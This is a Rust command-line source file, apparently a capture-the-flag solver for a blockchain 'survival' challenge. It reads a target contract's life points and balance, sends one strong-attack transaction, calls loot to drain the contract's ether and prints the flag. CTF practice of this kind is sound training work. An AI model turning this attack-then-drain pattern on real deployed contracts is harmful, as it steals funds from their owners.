// SPDX-License-Identifier: MIT
use alloy_primitives::U256;
use anyhow::{bail, Result};
use clap::Args;
use tracing::info;

use chain_types::constants::{CALL_GAS_LIMIT, SURVIVAL_STRONG_DAMAGE};
use host_utils::abi::{calldata, view, ICreature};
use host_utils::rpc::BlockRef;

use crate::commands::{print_json, Session};
use crate::config::ConnectionArgs;

#[derive(Args, Debug)]
pub struct SurvivalArgs {
    #[command(flatten)]
    pub connection: ConnectionArgs,

    /// Damage for the single strong attack.
    #[arg(long, default_value_t = SURVIVAL_STRONG_DAMAGE)]
    pub damage: u64,
}

pub async fn run(args: SurvivalArgs, json_output: bool) -> Result<()> {
    let session = Session::connect(&args.connection, json_output).await?;
    let client = session.client();
    let creature = session.config.target;

    let life_before = view(client, None, creature, &ICreature::lifePointsCall {}).await?;
    let balance_before = client.get_balance(creature, BlockRef::Latest).await?;
    info!(life_points = %life_before, balance = %balance_before, "Creature");

    session
        .transact(
            "Strong attack",
            creature,
            calldata(&ICreature::strongAttackCall {
                damage: U256::from(args.damage),
            }),
            CALL_GAS_LIMIT,
        )
        .await?;
    let life_after = view(client, None, creature, &ICreature::lifePointsCall {}).await?;
    info!(life_points = %life_after, "After attack");

    session
        .transact(
            "Loot",
            creature,
            calldata(&ICreature::lootCall {}),
            CALL_GAS_LIMIT,
        )
        .await?;

    let final_balance = client.get_balance(creature, BlockRef::Latest).await?;
    if !final_balance.is_zero() {
        bail!("creature still holds {final_balance} wei after loot");
    }
    let flag = session.try_flag().await;

    if json_output {
        return print_json(&serde_json::json!({
            "challenge": "survival",
            "creature": creature.to_string(),
            "life_points_before": life_before.to_string(),
            "life_points_after": life_after.to_string(),
            "looted_wei": balance_before.to_string(),
            "flag": flag,
        }));
    }

    println!("Life Points: {life_before} -> {life_after}");
    println!("Looted: {balance_before} wei");
    match flag {
        Some(flag) => println!("\nFlag: {flag}"),
        None => println!("Done!"),
    }
    Ok(())
}
